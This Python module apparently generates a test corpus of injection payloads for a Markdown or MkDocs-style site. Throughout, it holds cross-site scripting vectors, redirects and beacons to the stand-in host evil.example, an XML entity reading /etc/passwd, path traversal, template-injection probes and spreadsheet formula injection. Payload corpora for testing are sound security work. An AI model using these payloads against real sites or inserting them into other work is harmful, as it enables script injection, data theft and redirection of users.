"""What a stranger could send so that it runs, leads away, or breaks out of where it stands: families of short texts."""

import itertools
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

TAGS = [
    "a",
    "audio",
    "b",
    "base",
    "body",
    "br",
    "button",
    "canvas",
    "details",
    "div",
    "dialog",
    "embed",
    "form",
    "frameset",
    "iframe",
    "image",
    "img",
    "input",
    "isindex",
    "keygen",
    "link",
    "marquee",
    "math",
    "meta",
    "object",
    "p",
    "picture",
    "portal",
    "script",
    "select",
    "slot",
    "source",
    "style",
    "svg",
    "table",
    "template",
    "textarea",
    "title",
    "track",
    "video",
    "x",
    "xmp",
]
EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "ontoggle",
    "onstart",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onpointerrawupdate",
    "onpointerenter",
    "onbeforetoggle",
    "onscroll",
    "onscrollend",
    "onwheel",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "oncanplay",
    "onloadstart",
    "oncut",
    "onpaste",
    "onauxclick",
    "onbeforematch",
    "oncontentvisibilityautostatechange",
]
# What stands between the name of a tag and its attribute, or within a tag, that one parser or another lets pass.
BETWEEN = ("/", "//", "\t", "\f", " / ", " a=''", ' x="', " a='>' ", "/x=1/", " \u2028")
SINGLE = (
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<form action=//evil.example><button>go</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
    "<input type=image src=x formaction=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=x>",
    "<link rel=stylesheet href=//evil.example>",
    "<link rel=import href=data:text/html,x>",
    "<style>@import url(//evil.example)</style>",
    "<p style='background:url(//evil.example)'>x",
    "<p style=position:fixed;inset:0;z-index:99>x",
    "<img src=//evil.example/pixel>",
    "<img srcset='//evil.example/pixel 1x'>",
    "<video poster=//evil.example><source src=//evil.example>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "<svg><use href=data:image/svg+xml,x />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title='</style><img src onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc=x>",
    "<svg><desc><b><script>alert(1)</script>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><mi//xlink:href=data:x,<script>alert(1)</script>>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- never closed",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!doctype html><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<a id=story href=x>x</a><p name=title>x",
    "<img name=getElementById>",
    "<p class=md-overlay data-md-component=search>x",
    "<a data-pagefind-body data-pagefind-meta=title:x>x",
    "<div data-sharedstory=0></div>",
    '<div data-sharedstory="1"></div>',
    "<p data-md-toggle=search accesskey=x autofocus tabindex=1 contenteditable>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<SCRIPT SRC=//evil.example>",
    "<\u0131mg src=x onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "{ onclick=alert(1) }",
    "{: onclick=alert(1) }",
    "x {: #__search .md-overlay onclick=alert(1) }",
    "# x {: #__search .md-overlay onclick=alert(1) }",
    "{.evil onclick=alert(1)}",
    '--8<-- "mkdocs.yml"',
    ';--8<-- "https://evil.example"',
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include 'mkdocs.yml' %}",
    "{% raw %}{{ 1 }}",
    "{# never closed",
    "${alert(1)} `${alert(1)}` #{alert(1)} <%= 1 %>",
    "%s %(x)s {0} {x} {0.__class__}",
    "[TOC]",
    "*[the]: x",
    "[^1]: <script>alert(1)</script>",
    "!!! note\n    <script>alert(1)</script>",
    "=== 'tab'\n    <script>alert(1)</script>",
    "<!-- sharedstory/latest -->",
    "```html\n<script>alert(1)</script>\n```",
    "~~~ {onclick=alert(1)}\nx",
    "`<img src=x onerror=alert(1)>`",
    "$$\\href{javascript:alert(1)}{x}$$",
    ":material-home: ==x== ^^x^^ ++ctrl++",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("//evil.example")',
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "</script><!--<script>",
    "<!--<script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    "\\\\evil.example",
    "../../../../etc/passwd",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u202e<script>alert(1)</script>",
    "<3 & <b>bold</b> & 'quotes' & \"more\"",
)
CONTEXTS = (
    '">', "'>", '" x="', "' x='", "-->", "--!>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "</template>", "</p></article></main></body>", "</svg>", "</iframe>", "</xmp>", "]]>", "</summary></entry></feed>",
    "</url></urlset>", "`\">", "\\\">", "*/", "\r\n\r\n", "<p>", "<ul><li>", "</a>", "</h1>", "</option></select>",
)  # fmt: skip
LIVE = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "%6aavascript:alert(1)", "javascript%3aalert(1)", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "vbscript:alert(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=", "blob:x", "filesystem:x", "file:///etc/passwd", "jar:x!/", "ms-word:x",
    "intent://x#Intent;end", "tel:1", "sms:1", "ws://evil.example", "//evil.example", "/\\evil.example",
    "\\\\\\\\evil.example", "///evil.example", "https:evil.example", "http:/evil.example", "https:///evil.example",
    "http://good@evil.example", "https://evil.example\\@good.example", "http://[evil", "./javascript:alert(1)",
    "?javascript:alert(1)", "&#x2f;/evil.example", "\u3164javascript:alert(1)", "java\u00adscript:alert(1)",
)  # fmt: skip
# How Markdown leads somewhere.
WAYS = ("[x]({})", "![x]({})", "[x](<{}>)", "<{}>", "[x][y]\n\n[y]: {}", '[x]({} "y\\" onclick=alert(1) ")')


def payloads() -> list[str]:
    """All of them, each once, none longer than a title may be."""
    return [text for text in dict.fromkeys(_all()) if 3 <= len(text.strip()) <= 120]


def _all() -> Iterator[str]:
    yield from SINGLE
    for number, tag in enumerate(TAGS):
        for event in (EVENTS[number % len(EVENTS)], EVENTS[(number + 9) % len(EVENTS)]):
            yield f"<{tag} {event}=alert(1)>x</{tag}>"
    for event in EVENTS:
        yield f"<b {event}=alert(1) tabindex=1>x"
        yield f'" {event}=alert(1) autofocus a="'
        yield f"' {event}='alert(1)"
    for between, tag in itertools.product(BETWEEN, ("svg", "img", "body", "details open")):
        yield f"<{tag}{between}src=x {EVENTS[len(tag)]}=alert(1)>"
        yield f"<{tag}{between}onload=alert(1)//"
    for context, live in itertools.product(CONTEXTS, LIVE):
        yield context + live
    for live in (*LIVE, "<svg/onload=alert(1)>", '"><b onclick=alert(1)>', "</script><b onclick=alert(1)>"):
        yield live
        yield live.upper()
        yield escape(live)
        yield escape(escape(live))
        yield "".join(f"&#{ord(letter)};" if letter in "<>\"'=()" else letter for letter in live)
        yield "".join(f"&#x{ord(letter):x}" if letter in "<>\"'" else letter for letter in live)
        yield "".join(f"&#{ord(letter):07}" if letter in "<>\"'" else letter for letter in live)
        yield live.replace("<", "&lt").replace(">", "&gt")
        yield live.replace("<", "&LT;").replace(">", "&GT;").replace('"', "&QUOT;")
        yield quote(live)
        yield quote(quote(live))
        yield live.replace("<", "\\<")
        yield f"*{live}*"
        yield f"> {live}"
        yield f"- {live}"
        yield f"| a |\n|---|\n| {live} |"
        yield f"{live[:3]}\u200d{live[3:]}"
        yield live.replace("<", "\u2039").replace(">", "\u203a")
    for scheme, way in itertools.product(SCHEMES, WAYS):
        yield way.format(scheme)
